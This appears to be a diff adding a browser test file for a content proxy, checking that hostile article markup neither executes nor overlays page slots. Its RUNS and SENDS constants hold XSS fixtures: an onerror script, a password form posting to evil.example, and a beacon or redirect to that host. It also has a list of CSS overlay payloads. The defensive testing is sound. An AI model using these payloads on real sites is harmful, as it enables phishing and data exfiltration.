@@ -1,0 +1,124 @@
+"""What hostile articles try in real browsers under our headers: nothing runs, nothing is covered.
+
+`ops/bench attacks` does the same with every vector and every page of the corpus.
+"""
+
+import gzip
+from collections.abc import Sequence
+from pathlib import Path
+
+import pytest
+import pytest_asyncio
+from playwright.async_api import Browser
+
+from proxy.compiler.page import Page
+from tests.browser import hostile
+from tests.browser.firefox import Firefox
+from tests.vectors import every
+
+pytestmark = pytest.mark.asyncio(loop_scope="session")
+
+# So many vectors stand in one article.
+TOGETHER = 60
+# Pages of the corpus whose own layers once stood before a slot.
+LAYERED = ("078-yahoo-com", "100-medium-com", "101-yahoo-com", "108-cnbc-com", "165-bloomberg-com",
+           "066-qq-com", "183-lesswrong-com")  # fmt: skip
+
+
+def articles(corpus: Path, part: slice) -> list[str]:
+    vectors = every(corpus)
+    several = ["</div><div>".join(vectors[n :: len(vectors) // TOGETHER]) for n in range(99)]
+    return [hostile.article(each) for each in several[part]]
+
+
+@pytest_asyncio.fixture(loop_scope="session")
+async def chromium_eyes(browser: Browser):
+    eyes = await hostile.ChromiumEyes.of(browser)
+    yield eyes
+    await eyes.close()
+
+
+@pytest_asyncio.fixture(loop_scope="session")
+async def firefox_eyes(fox: Firefox):
+    eyes = await hostile.FirefoxEyes.of(fox)
+    yield eyes
+    await eyes.close()
+
+
+async def findings(
+    eyes: hostile.Eyes, pages: Sequence[str], origins: Sequence[hostile.Origins]
+) -> list[str]:
+    found = []
+    async with hostile.stage() as stage:
+        for markup in pages:
+            page = hostile.compiled(markup)
+            assert page
+            for setting in origins:
+                found += await eyes.watch(stage.put(page, setting))
+        return found + stage.asked
+
+
+@pytest.mark.parametrize("origins", ["two", "one", "none"])
+async def test_vectors_do_nothing_in_chromium(corpus, chromium_eyes, origins) -> None:
+    part = {"two": slice(0, 8), "one": slice(8, 14), "none": slice(14, 22)}[origins]
+    assert await findings(chromium_eyes, articles(corpus, part), [origins]) == []
+
+
+async def test_vectors_do_nothing_in_firefox(corpus, firefox_eyes) -> None:
+    several = articles(corpus, slice(22, 30))
+    assert await findings(firefox_eyes, several, ["two", "none"]) == []
+
+
+RUNS = "<img src=x onerror=alert(1)><form action=//evil.example><input type=password></form>"
+SENDS = "<script>navigator.sendBeacon('//evil.example/x');location='//evil.example'</script>"
+
+
+@pytest.mark.parametrize("vector", [RUNS, SENDS])
+@pytest.mark.parametrize("browser_name", ["chromium", "firefox"])
+async def test_the_eyes_see_what_an_untouched_vector_does(request, browser_name, vector) -> None:
+    eyes = request.getfixturevalue(f"{browser_name}_eyes")
+    page = hostile.compiled(hostile.article(""))
+    assert page
+    raw = Page(page.mode, "", page.article, page.card, (vector.encode(), b""), ("head",))
+    async with hostile.stage() as stage:
+        assert await eyes.watch(stage.put(raw, "none"))
+        assert await eyes.watch(stage.put(raw, "two")), "stopped by the policy, and seen"
+
+
+COVERS = (
+    '<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">x</div>',
+    '<div style="pos\\69tion:f\\69xed;inset:0;z-index:9e99">x</div>',
+    '<div style="--p:fixed;position:var(--p);inset:0;z-index:calc(2147483647)">x</div>',
+    '<div style="position:absolute;inset:0;width:100vw;height:9000px;z-index:2147483647">x</div>',
+    '<p style="margin-top:-2000px;height:4000px;position:relative;z-index:9999999999">x</p>',
+    '<p style="transform:translateY(-600px);height:1200px;background:#fff">x</p>',
+    '<p style="float:left;width:100%;height:900px;margin:-400px 0">x</p>',
+    "<style>*{position:sticky!important;top:0;z-index:2147483647}</style>",
+    "<style>.entry-content{transform:rotate(9deg);opacity:.01;z-index:-1;position:relative}"
+    "body::after{content:'';position:absolute;inset:0;z-index:5;height:9000px}</style>",
+    "<style>@layer a{note-card{display:none!important}}note-card:not(#a#b#c#d#e)"
+    "{position:absolute!important;left:-9999px!important}</style>",
+    '<svg style="position:absolute;inset:0;width:100%;height:9000px;z-index:99"><path d=""/></svg>',
+)
+
+
+@pytest.mark.parametrize("width", [390, 1280])
+async def test_no_style_of_a_page_stands_before_a_slot(browser: Browser, width: int) -> None:
+    eyes = await hostile.ChromiumEyes.of(browser, width)
+    async with hostile.stage() as stage:
+        for cover in COVERS:
+            page = hostile.compiled(hostile.article(cover))
+            assert page
+            assert await eyes.points(stage.put(page, "two")) == [], cover
+    await eyes.close()
+
+
+async def test_no_layer_of_real_pages_stands_before_a_slot(corpus: Path, browser: Browser) -> None:
+    eyes = await hostile.ChromiumEyes.of(browser, 390)
+    async with hostile.stage() as stage:
+        for name in LAYERED:
+            raw = gzip.decompress((corpus / "pages" / f"{name}.html.gz").read_bytes())
+            page = hostile.compiled(raw)
+            assert page
+            assert await eyes.points(stage.put(page, "two")) == [], name
+    await eyes.close()
